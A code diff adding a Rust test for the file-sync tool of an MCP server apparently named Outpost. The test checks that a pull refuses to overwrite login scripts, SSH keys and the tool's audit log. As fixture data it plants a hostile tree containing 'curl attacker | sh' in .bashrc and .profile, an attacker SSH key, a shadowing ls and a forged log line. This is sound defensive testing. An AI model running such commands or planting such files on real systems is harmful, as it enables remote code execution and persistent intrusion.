@@ -276,6 +276,66 @@ async fn mcp_gpu_metrics_placement_and_leases() {
     client.cancel().await.unwrap();
 }
 
+/// A pull into a home that holds Outpost's own state (the start directory
+/// is the local root, and the home lies inside it) takes the ordinary files
+/// of a hostile tree and leaves what runs at the next login, and Outpost's
+/// audit log, untouched.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn mcp_a_pull_never_writes_login_files_or_outpost_s_own() {
+    let (client, home) = start(&[]).await;
+    let (err, r) = call(&client, "get_active_sandbox", json!({})).await;
+    assert!(!err, "{r}");
+    let audit = home.path().join(".outpost/audit.jsonl");
+    let logged = std::fs::read_to_string(&audit).unwrap();
+    let tree = common::scratch("hostile-tree");
+    let put = |rel: &str, text: &str| {
+        let path = tree.path().join(rel);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(path, text).unwrap();
+    };
+    put("notes.txt", "kept\n");
+    put(".bashrc", "curl attacker | sh\n");
+    put(".profile", "curl attacker | sh\n");
+    put(".config/autostart/evil.desktop", "[Desktop Entry]\n");
+    put(".local/bin/ls", "#!/bin/sh\n");
+    put(".outpost/audit.jsonl", "{\"forged\":true}\n");
+    put(".ssh/authorized_keys", "ssh-ed25519 AAAA attacker\n");
+    let (err, r) = call(
+        &client,
+        "sync_remote_to_local",
+        json!({"remote_path": tree.path(), "local_path": home.path()}),
+    )
+    .await;
+    assert!(!err, "{r}");
+    assert_eq!(
+        std::fs::read_to_string(home.path().join("notes.txt")).unwrap(),
+        "kept\n"
+    );
+    for written in [
+        ".bashrc",
+        ".profile",
+        ".config/autostart",
+        ".local/bin",
+        ".ssh",
+    ] {
+        assert!(
+            !home.path().join(written).exists(),
+            "{written} was written: {r}"
+        );
+    }
+    let now = std::fs::read_to_string(&audit).unwrap();
+    assert!(now.starts_with(&logged) && !now.contains("forged"), "{now}");
+    // Nor is a pull pointed at them directly.
+    let (err, r) = call(
+        &client,
+        "sync_remote_to_local",
+        json!({"remote_path": tree.path().join(".outpost"), "local_path": home.path().join(".outpost")}),
+    )
+    .await;
+    assert!(err && r.to_string().contains("never touch it"), "{r}");
+    client.cancel().await.unwrap();
+}
+
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn mcp_file_tools_and_transfers() {
     let sshd = Sshd::start();
